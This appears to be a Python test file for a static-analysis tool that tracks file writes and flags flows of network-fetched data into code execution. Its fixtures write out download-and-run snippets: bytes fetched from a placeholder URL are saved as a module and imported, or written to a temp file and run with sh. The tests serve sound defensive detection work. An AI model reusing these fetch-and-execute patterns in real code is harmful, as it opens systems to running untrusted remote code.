"""Written files and the keys by which they are known again."""

import ast

import pytest

from pratique.analysis.facts import Capability, Taint
from pratique.analysis.languages.python.evaluate import At
from pratique.analysis.languages.python.writes import keys_within, path_keys
from tests.analysis.languages.python.reading import evaluated, flows


def share(source: str) -> bool:
    """Whether the two last expressions of a source may speak of one file."""
    tree, index, evaluator = evaluated(source)
    first, second = [statement for statement in tree.body if isinstance(statement, ast.Expr)][-2:]
    at = At(index.module, index.block)
    return bool(path_keys(evaluator, first.value, at) & keys_within(evaluator, [second.value], at))


@pytest.mark.parametrize(
    "source",
    [
        "p\n['sh', p]",
        "p = f()\nq = p\nopen(q, 'w')\n[str(p)]",
        "'a.exe'\n'start a.exe'",
        "open('a.exe', 'wb')\nf('a.exe')",
        "t = NamedTemporaryFile()\nt\nf'x {t.name}'",
        "with open(p) as h: pass\nh\np",
        "os.path.join(d, 'a')\nos.path.join(d, 'a')",
        "p = d / 'a'\np\n[str(d / 'a')]",
        "p\nopen(p).read()",
        "p = 'a' + 'b.exe'\np\n'ab.exe'",
        "c = ['sh', p]\np\nc",
    ],
)
def test_the_same_file_is_known_again(source: str) -> None:
    assert share("p = f()\nd = g()\n" + source)


@pytest.mark.parametrize(
    "source",
    [
        "p\nd",
        "p = 'a.exe'\np\np = 'b.exe'\np",
        "os.path.join(d, 'a')\nos.path.join(d, 'b')",
        "os.path.join(d, 'a')\nd",
        "'a.exe'\n'b.exe'",
        "p\n'p'",
        "'a'\n'a'",
    ],
)
def test_another_file_is_not(source: str) -> None:
    assert not share("p = f()\nd = g()\n" + source)


FETCHED = "import os, urllib.request as u\nb = u.urlopen('https://far.invalid/m').read()\n"


@pytest.mark.parametrize(
    "source",
    [
        "open(os.path.join(d, 'zz_mod.py'), 'wb').write(b)\nimport zz_mod",
        "open('zz_mod.py', 'wb').write(b)\nfrom zz_mod import a",
        "u.urlretrieve('https://far.invalid/m', d + '/zz_mod.py')\nimport zz_mod.part",
    ],
)
def test_a_module_that_was_fetched_is_run_when_it_is_imported(source: str) -> None:
    assert (Capability.CODE, "import", {Taint.NETWORK}) in flows(FETCHED + source)


@pytest.mark.parametrize(
    "source",
    [
        "open('zz_mod.py', 'wb').write(b)\nimport other",
        "open('zz_mod.py', 'w').write('x = 1')\nimport zz_mod",
    ],
)
def test_other_modules_are_not(source: str) -> None:
    assert not [api for _, api, _ in flows(FETCHED + source) if api == "import"]


def test_a_file_written_by_its_number_is_known_by_its_path() -> None:
    source = (
        FETCHED
        + "import tempfile, subprocess\nf, p = tempfile.mkstemp()\nos.write(f, b)\nsubprocess.run(['sh', p])"
    )
    assert (Capability.PROCESS, "subprocess.run", {Taint.NETWORK}) in flows(source)
